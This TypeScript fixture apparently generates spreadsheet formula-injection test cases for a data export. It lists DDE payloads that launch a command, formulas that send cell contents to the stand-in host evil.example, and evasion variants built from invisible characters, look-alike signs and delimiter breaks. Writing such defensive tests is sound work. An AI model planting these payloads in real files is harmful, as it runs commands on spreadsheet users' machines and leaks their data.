/** Texts that have run as formulas, or may: what a consent could carry into a file that somebody opens in a spreadsheet. */

const formulas = [
  '=1+1',
  '=SUM(A1:A9)',
  `=cmd|' /C calc'!A0`,
  `=DDE("cmd";"/C calc";"")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
  '-5',
  '+64 21 555 0100',
  `|' /C calc'!A0`,
  '%0A=1+1',
  '%0D%0A=1+1',
  '=1+1";=2+2',
  '"=1+1',
];

/** The same signs in the shapes that compatibility folds away, and the minus that number parsers know. */
const foldedSigns = [...'＝＋－＠﹦﹢﹣﹫⁼₌⁺₊⁻₋−﬩⩵⩶｜％﹪'];

/** What stands before a formula unseen, is trimmed, or is dropped on the way. */
const leads = [
  '',
  ' ',
  '   ',
  '\t',
  '\n',
  '\r',
  '\r\n',
  '\u0000',
  '\u0000\u0000',
  '\u000b',
  '\u000c',
  '\u001b',
  '\u007f',
  '\u0085',
  '\u00a0',
  '\u00ad',
  '\u034f',
  '\u061c',
  '\u1680',
  '\u180e',
  '\u2003',
  '\u200b',
  '\u200c',
  '\u200d',
  '\u200e',
  '\u200f',
  '\u2028',
  '\u2029',
  '\u202a',
  '\u202e',
  '\u202f',
  '\u2060',
  '\u2066',
  '\u2069',
  '\u2800',
  '\u3000',
  '\u3164',
  '\ufe0f',
  '\ufeff',
  '\ufffd',
  '\ud800',
  '\u{e0001}',
  '\u0301',
  `'`,
  `''`,
  '"',
  ' \u00a0\u200b\ufeff\t',
  '\u202e\u0000 \n',
];

/** What ends a cell where a spreadsheet splits at something else than the comma, or does not know our quotes. */
const breaks = [';', '; ', ';\u00a0', '\t', '\n', '\r\n', '\r', '";', '",', ',', '"\n', '";;'];

/** Several hundred texts, each of which some spreadsheet, opened in some way, could take for a formula or break into one. */
export const hostileCells: readonly string[] = [
  ...new Set([
    ...formulas.flatMap((formula) => leads.map((lead) => lead + formula)),
    ...foldedSigns.flatMap((sign) => ['', ' ', '\ufeff', '\n'].map((lead) => `${lead}${sign}1${sign}1`)),
    ...breaks.flatMap((end) =>
      ['=1+1', '+A1+1', '@SUM(1,1)', '-1+1', '＝1+1', ' =1+1;"'].map((f) => `Tui${end}${f}`),
    ),
  ]),
];
